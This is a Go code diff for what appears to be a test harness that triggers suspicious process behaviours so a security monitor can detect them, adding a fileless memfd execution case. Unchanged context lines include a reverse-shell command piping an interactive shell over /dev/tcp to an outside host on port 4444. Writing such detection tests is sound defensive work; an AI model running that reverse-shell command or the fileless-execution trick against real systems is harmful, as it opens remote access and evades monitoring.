@@ -51,6 +51,7 @@ var actions = []action{
 	{"shell", "shell-spawned", func(r *recorder, _ event) { r.exec("/bin/sh", "-c", "id") }},
 	{"tmp-write-exec", "tmp-write-exec", tmpWriteExec},
 	{"shm-exec", "exec-from-writable", shmExec},
+	{"memfd-exec", "fileless-exec", memfdExec},
 	{"reverse-shell", "reverse-shell", func(r *recorder, _ event) {
 		r.exec("/bin/sh", "-c", "sh -i >& /dev/tcp/"+outside+"/4444 0>&1")
 	}},
@@ -163,13 +164,18 @@ func tmpWriteExec(r *recorder, _ event) {
 	const dir = "/tmp/.cache-x"
 	const payload = dir + "/payload"
 	r.step("mkdir "+dir, os.MkdirAll(dir, 0o755))
-	src := "/usr/bin/true"
-	if _, err := os.Stat(src); err != nil {
-		src = "/bin/true"
-	}
+	src := trueBinary()
 	r.step("copy "+src+" to "+payload, copyFile(src, payload, 0o600))
 	r.step("chmod 0755 "+payload, os.Chmod(payload, 0o755))
 	r.exec(payload)
+}
+
+// trueBinary is /usr/bin/true, or /bin/true where there is no usr merge.
+func trueBinary() string {
+	if _, err := os.Stat("/usr/bin/true"); err == nil {
+		return "/usr/bin/true"
+	}
+	return "/bin/true"
 }
 
 func copyFile(src, dst string, perm os.FileMode) error {
@@ -201,6 +207,34 @@ func shmExec(r *recorder, _ event) {
 		f.Close()
 		r.step("remove "+payload, os.Remove(payload))
 	}
+}
+
+// memfdExec copies /usr/bin/true into a memfd and runs it from there
+// through /proc/self/fd, the way fileless droppers run a payload that
+// never lands on a path.
+func memfdExec(r *recorder, _ event) {
+	fd, err := unix.MemfdCreate("payload", 0)
+	r.step("memfd_create", err)
+	if err != nil {
+		return
+	}
+	mem := os.NewFile(uintptr(fd), "memfd:payload")
+	defer mem.Close()
+	src, err := os.Open(trueBinary())
+	r.step("open true", err)
+	if err != nil {
+		return
+	}
+	_, err = io.Copy(mem, src)
+	src.Close()
+	r.step("copy true into the memfd", err)
+	ctx, cancel := context.WithTimeout(context.Background(), execTimeout)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, "/proc/self/fd/3")
+	cmd.Args = []string{"payload"}
+	cmd.ExtraFiles = []*os.File{mem} // fd 3 in the child
+	cmd.WaitDelay = time.Second
+	r.step("run the memfd", cmd.Run())
 }
 
 // setuid asks for uid 0 and gid 0, which the kernel refuses a process
